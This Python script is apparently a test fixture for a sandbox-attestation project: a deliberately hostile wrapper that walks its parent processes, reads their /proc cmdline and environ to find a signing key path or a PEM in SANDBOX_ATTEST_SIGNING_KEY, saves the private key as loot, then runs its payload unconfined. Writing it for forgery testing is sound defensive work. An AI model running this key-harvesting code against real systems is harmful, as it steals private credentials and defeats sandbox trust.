#!/usr/bin/env python3
"""A wrapper that steals the run's signing key, then runs its payload with no sandbox at all.

tests/integration/test_forgery_attacks.py (issue 23) names it in a spec. It walks its
ancestors (the harness, and whatever started the harness) and reads the key the way issue 23
says a wrapper can when it shares a trust domain with the harness:

- `--key PATH` (or `--key=PATH`) in `/proc/<ancestor>/cmdline`, then the file at PATH;
- `SANDBOX_ATTEST_SIGNING_KEY` in `/proc/<ancestor>/environ` (PEM text, or a path to read).

Whatever it gets goes to `$FORGER_DROP/loot.pem`, and one JSON line per attempt to
`$FORGER_DROP/attempts.jsonl` (its uid, each source tried, the errno name of each refusal), so
the test can forge with the loot as the attacker would and can tell a wrapper that never ran
from one that was refused. It never writes to stdout before the exec: the payload's output
must reach the harness as it is.

Usage: wrapper.py PAYLOAD_ARGV...
"""

from __future__ import annotations

import errno
import json
import os
import sys
from pathlib import Path

VAR = b"SANDBOX_ATTEST_SIGNING_KEY="
DROP = Path(os.environ.get("FORGER_DROP", "/nonexistent"))


def record(**fields: object) -> None:
    """Append one attempt to the drop directory's log."""
    fields |= {"pid": os.getpid(), "uid": os.getuid(), "euid": os.geteuid()}
    with (DROP / "attempts.jsonl").open("a") as log:
        log.write(json.dumps(fields) + "\n")


def ancestors() -> list[int]:
    """The pids above this one, nearest first, up to (not including) init."""
    chain, pid = [], os.getppid()
    while pid > 1 and pid not in chain:
        chain.append(pid)
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        ppid = next((ln.split()[1] for ln in status.splitlines() if ln.startswith("PPid:")), "0")
        pid = int(ppid)
    return chain


def read(path: Path) -> tuple[bytes | None, str]:
    """A file's bytes, or None and the errno name of the refusal."""
    try:
        return path.read_bytes(), ""
    except OSError as exc:
        return None, errno.errorcode.get(exc.errno or 0, str(exc))


def key_paths(cmdline: bytes) -> list[bytes]:
    """Every PATH given as `--key PATH` or `--key=PATH` in a NUL-separated command line."""
    args = cmdline.split(b"\0")
    found = [args[i + 1] for i, a in enumerate(args[:-1]) if a == b"--key"]
    return found + [a.split(b"=", 1)[1] for a in args if a.startswith(b"--key=")]


def steal() -> bytes | None:
    """The first private key any ancestor's cmdline or environ gives away."""
    for pid in ancestors():
        cmdline, why = read(Path(f"/proc/{pid}/cmdline"))
        for path in key_paths(cmdline or b""):
            pem, why = read(Path(os.fsdecode(path)))
            record(source="cmdline --key", target=pid, path=os.fsdecode(path), errno=why)
            if pem and b"PRIVATE KEY" in pem:
                return pem
        environ, why = read(Path(f"/proc/{pid}/environ"))
        record(source="environ", target=pid, errno=why)
        for item in (environ or b"").split(b"\0"):
            if not item.startswith(VAR):
                continue
            value = item[len(VAR) :]
            pem = value if value.startswith(b"-----BEGIN") else read(Path(os.fsdecode(value)))[0]
            if pem and b"PRIVATE KEY" in pem:
                return pem
    return None


def main(argv: list[str]) -> None:
    """Steal, keep the loot, then exec the payload unconfined (never returns)."""
    if DROP.is_dir():
        pem = steal()
        record(source="result", stolen=pem is not None)
        if pem is not None:
            loot = DROP / "loot.pem"
            loot.write_bytes(pem)
    os.execvp(argv[0], argv)  # noqa: S606  (the payload argv, no shell wanted)


if __name__ == "__main__":
    main(sys.argv[1:])
